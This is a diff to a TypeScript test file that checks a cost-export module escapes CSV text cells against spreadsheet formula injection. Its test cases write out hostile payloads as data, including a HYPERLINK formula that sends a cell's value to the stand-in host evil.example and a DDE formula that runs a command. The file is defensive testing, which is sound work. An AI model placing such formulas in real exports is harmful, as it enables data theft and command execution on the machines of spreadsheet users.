@@ -1,7 +1,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import type { ExportRow } from './cost.repository.js';
-import { csvEncoder, csvField, jsonLinesEncoder } from './export-encoders.js';
+import { csvEncoder, csvField, csvTextField, jsonLinesEncoder } from './export-encoders.js';
 import { exportColumns } from './focus-columns.js';
 
 const row: ExportRow = {
@@ -17,6 +17,36 @@ test('CSV quotes fields with commas, quotes or line breaks (RFC 4180)', () => {
   assert.equal(csvField('a,b'), '"a,b"');
   assert.equal(csvField('say "hi"'), '"say ""hi"""');
   assert.equal(csvField('two\nlines'), '"two\nlines"');
+});
+
+test('CSV text cells never start like a formula (OWASP CSV injection)', () => {
+  const cases: Array<[string, string]> = [
+    ['=HYPERLINK("http://evil.example/?d="&A1,"refund")', `"'=HYPERLINK(""http://evil.example/?d=""&A1,""refund"")"`],
+    ['+1+1', `"'+1+1"`],
+    ['-2+3', `"'-2+3"`],
+    ['@SUM(1,1)', `"'@SUM(1,1)"`],
+    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
+    ['\t=1+1', `"'\t=1+1"`],
+    ['\r=1+1', `"'\r=1+1"`],
+    ['\uff1d1+1', `"'\uff1d1+1"`],
+    // A reader that splits on a locale's separator (;) or on tabs must not find a cell starting at "=".
+    ['alice;=1+1', '"alice;=1+1"'],
+    ['alice', 'alice'],
+    ["o'brien", "o'brien"],
+  ];
+  for (const [value, expected] of cases) assert.equal(csvTextField(value), expected, JSON.stringify(value));
+});
+
+test('CSV exports neutralise text cells but keep the sign of decimals', () => {
+  const hostile: ExportRow = { ...row, user_id: '=1+1', cost: '-0.5' };
+  const focusLine = csvEncoder(exportColumns('focus-csv', '1.2')).rows([hostile], context);
+  assert.ok(focusLine.includes(`,"'=1+1",`), focusLine);
+  assert.ok(!/(^|,)[=+\-@]/.test(focusLine.replace(/,-0\.5(?=,)/g, ',0')), 'no unquoted cell starts like a formula');
+  assert.ok(focusLine.includes(',-0.5,'), 'a negative amount stays a number');
+  const plainLine = csvEncoder(exportColumns('csv', '1.2')).rows([hostile], context);
+  assert.ok(plainLine.includes(`,"'=1+1",`), plainLine);
+  // JSON Lines are not opened as spreadsheets: they carry the value as given.
+  assert.equal(JSON.parse(jsonLinesEncoder(exportColumns('focus-jsonl', '1.2')).rows([hostile], context)).x_UserId, '=1+1');
 });
 
 test('FOCUS CSV: header then rows, custom columns last, nulls empty', () => {
